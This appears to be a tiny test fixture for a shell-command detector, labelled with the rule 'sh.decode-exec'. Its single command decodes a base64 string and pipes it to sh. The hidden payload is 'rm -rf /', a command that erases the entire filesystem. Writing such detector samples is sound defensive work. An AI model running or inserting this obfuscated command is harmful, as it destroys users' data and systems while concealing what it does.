# expect: sh.decode-exec
echo cm0gLXJmIC8K | base64 -d | sh
